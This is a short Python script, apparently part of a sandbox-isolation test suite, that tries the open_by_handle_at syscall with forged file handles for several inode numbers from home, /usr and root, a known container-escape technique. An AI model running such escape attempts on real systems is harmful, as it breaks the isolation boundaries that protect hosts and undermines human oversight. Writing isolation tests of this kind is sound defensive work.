import ctypes
import os
import struct

from attacker import HOME, attempt, finish, syscall

for anchor in (HOME, "/usr", "/"):
    try:
        fd = os.open(anchor, os.O_RDONLY)
    except PermissionError:
        continue
    for inode in (2, 64, 128, 256):
        handle = ctypes.create_string_buffer(struct.pack("IiQ", 8, 1, inode), 64)
        attempt(f"inode {inode} from {anchor}", syscall, "open_by_handle_at", fd, handle, os.O_RDONLY)
    os.close(fd)
finish()
